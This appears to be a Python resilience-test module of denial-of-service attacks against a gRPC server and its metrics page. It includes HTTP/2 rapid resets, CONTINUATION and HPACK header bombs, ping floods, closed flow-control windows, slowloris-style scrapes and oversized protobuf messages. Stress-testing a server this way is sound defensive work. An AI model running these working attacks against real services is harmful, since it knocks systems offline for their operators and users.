"""What a stranger may try. Each function is one attempt at `target.grpc` or `target.metrics`, and yields how much it got done after
each step: `run` ends it there once the attack is over. An OSError is the server's defence, and no fault."""

import concurrent.futures
import contextlib
import dataclasses
import functools
import os
import socket
import ssl
import struct

import http2
from http2 import Connection, connect, frame

MESSAGE = 60 << 20


@dataclasses.dataclass(frozen=True)
class Target:
    """What is attacked: addresses, a good request's bytes, and in PEM files who signed the server's certificate, if it has one, and
    the attacker's own certificate and key, if it got one."""
    grpc: str
    metrics: str
    request: bytes
    authority: str | None = None
    certificate: str | None = None
    key: str | None = None

    def wrap(self, plain):
        return self._context.wrap_socket(plain, server_hostname="127.0.0.1") if self.authority else plain

    @functools.cached_property
    def _context(self):
        context = ssl.create_default_context(cafile=self.authority)
        context.set_alpn_protocols(["h2"])
        if self.certificate:
            context.load_cert_chain(self.certificate, self.key)
        return context


def run(attack, target, stop, done):
    """Attempt after attempt until `stop`, by as many as the attack wants at once; puts how much they got done into the queue `done`.

    For a process of its own, which yields the CPU to everybody else: a stranger's instructions are not run by the server's machine.
    """
    os.nice(19)
    count = getattr(attack, "at_once", 1)
    with concurrent.futures.ThreadPoolExecutor(count) as pool:
        done.put(sum(pool.map(lambda _: keep_trying(attack, target, stop), range(count))))


def keep_trying(attack, target, stop):
    done = 0
    while not stop.is_set():
        with contextlib.suppress(OSError), contextlib.closing(attack(target, stop)) as attempt:
            for more in attempt:
                done += more
                if stop.is_set():
                    return done
            continue
        stop.wait(0.02)
    return done


def opened(target, settings=b""):
    """A connection that has said hello, for a `with`."""
    return contextlib.closing(Connection(target.grpc, target.wrap, settings))


def silent_connections(target, stop):
    """Two thousand connections that say nothing, again and again."""
    with contextlib.ExitStack() as sockets:
        for _ in range(2000):
            sockets.enter_context(connect(target.grpc))
            yield 1
        stop.wait(1)


def aborted_connections(target, stop):
    """Connections that are reset as soon as they are there."""
    with connect(target.grpc) as connection:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    yield 1


def noise(target, stop):
    """Bytes that are no HTTP/2."""
    for nonsense in (b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", os.urandom(4096)):
        with connect(target.grpc) as connection:
            connection.sendall(nonsense)
            connection.settimeout(0.2)
            with contextlib.suppress(OSError):
                connection.recv(100)
        yield 1


def header_block(target, begin, piece, count):
    """One header block without an end."""
    with opened(target) as connection:
        connection.send(frame(http2.HEADERS, 0, 1, http2.call_headers() + begin))
        for _ in range(count):
            connection.send(frame(http2.CONTINUATION, 0, 1, piece))
            yield 1


def continuations(target, stop):
    """Headers without end."""
    return header_block(target, b"", http2.header("x-filler", b"x" * 16000), 2000)


def endless_header(target, stop):
    """One header whose value is said to have 256 MiB, in pieces."""
    return header_block(target, b"\x00" + http2.integer(1, 7) + b"x" + http2.integer(1 << 28, 7), b"x" * 16384, 2000)


def padded_integers(target, stop):
    """A length with endless leading zeros."""
    return header_block(target, b"\x00\x7f" + b"\x80" * 8000, b"\x80" * 16384, 500)


def header_bombs(target, stop):
    """A long header in the table, named thousands of times."""
    with opened(target) as connection:
        connection.send(frame(http2.HEADERS, http2.END_HEADERS, connection.next_stream(),
                              http2.call_headers() + http2.header("x-bomb", b"x" * 3900, index=True)))
        bomb = http2.call_headers() + b"\xbe" * 12000
        for _ in range(200):
            connection.send(frame(http2.HEADERS, http2.END_HEADERS, connection.next_stream(), bomb))
            yield 1


def rapid_resets(target, stop):
    """Calls that are taken back as soon as they have begun."""
    with opened(target) as connection:
        for _ in range(1000):
            burst = b""
            for _ in range(100):
                stream = connection.next_stream()
                burst += frame(http2.HEADERS, http2.END_HEADERS, stream, http2.call_headers())
                burst += frame(http2.RESET, 0, stream, struct.pack(">I", 8))
            connection.send(burst)
            yield 100


def pings_and_settings(target, stop):
    """Control frames that want an answer each."""
    with opened(target) as connection:
        burst = (frame(http2.PING, 0, 0, b"12345678") + frame(http2.SETTINGS, 0, 0)) * 100
        for _ in range(1000):
            connection.send(burst)
            yield 200


def pings(target, stop):
    """PING frames alone, from two at once, which read no answers."""
    with opened(target) as connection:
        burst = frame(http2.PING, 0, 0, b"12345678") * 1000
        for _ in range(1000):
            connection.send(burst)
            yield 1000


pings.at_once = 2


@functools.cache
def half_a_message():
    return b"\x00" + struct.pack(">I", MESSAGE) + bytes(MESSAGE - (1 << 20))


def half_messages(target, stop):
    """Messages of 60 MiB that never end, forty at once, as fast as they are taken."""
    with opened(target) as connection:
        connection.send(frame(http2.HEADERS, http2.END_HEADERS, 1, http2.call_headers()))
        done = connection.send_message(1, half_a_message(), stop, last=False)
        stop.wait(2)
        yield int(done)


half_messages.at_once = 40


def whole_message(target, stop, message):
    """A call with this message, whose answer nobody reads."""
    with opened(target) as connection:
        connection.send(frame(http2.HEADERS, http2.END_HEADERS, 1, http2.call_headers()))
        done = connection.send_message(1, b"\x00" + struct.pack(">I", len(message)) + message, stop)
        stop.wait(0.5)
        yield int(done)


def contents_message(dtype, contents):
    """A request for the demo's model with one input of these contents."""
    tensor = b"\x0a\x05image\x12" + varint(len(dtype)) + dtype.encode() + b"\x2a" + varint(len(contents)) + contents
    return b"\x0a\x06digits" + b"\x2a" + varint(len(tensor)) + tensor


def nested_entries(target, stop):
    """Messages of many empty entries, which take far more memory than bytes."""
    return whole_message(target, stop, contents_message("BYTES", b"\x42\x00" * (4 << 20)))


def tiny_integers(target, stop):
    """Messages of numbers of one byte that are eight in memory."""
    numbers = b"\x01" * (48 << 20)
    return whole_message(target, stop, contents_message("INT64", b"\x1a" + varint(len(numbers)) + numbers))


def closed_windows(target, stop):
    """Calls whose answers nobody ever lets through."""
    body = b"\x00" + struct.pack(">I", len(target.request)) + target.request
    with opened(target, struct.pack(">HI", http2.INITIAL_WINDOW, 0)) as connection:
        for _ in range(100):
            stream = connection.next_stream()
            connection.send(frame(http2.HEADERS, http2.END_HEADERS, stream, http2.call_headers()))
            connection.send(frame(http2.DATA, http2.END_STREAM, stream, body))
            yield 1
        connection.is_open()
        stop.wait(1)


def slow_scrapes(target, stop):
    """Clients of the metrics page that ask slowly, or never read."""
    with contextlib.ExitStack() as sockets:
        for i in range(50):
            client = sockets.enter_context(connect(target.metrics))
            client.sendall(b"GET /metrics HTTP/1.1\r\n" + (b"\r\n" if i % 2 else b""))
            yield 1
        stop.wait(0.2)


def varint(value):
    out = []
    while value >= 128:
        out.append(value % 128 | 128)
        value //= 128
    return bytes((*out, value))


ALL = (silent_connections, aborted_connections, noise, continuations, endless_header, padded_integers, header_bombs, rapid_resets,
       pings_and_settings, pings, half_messages, nested_entries, tiny_integers, closed_windows, slow_scrapes)
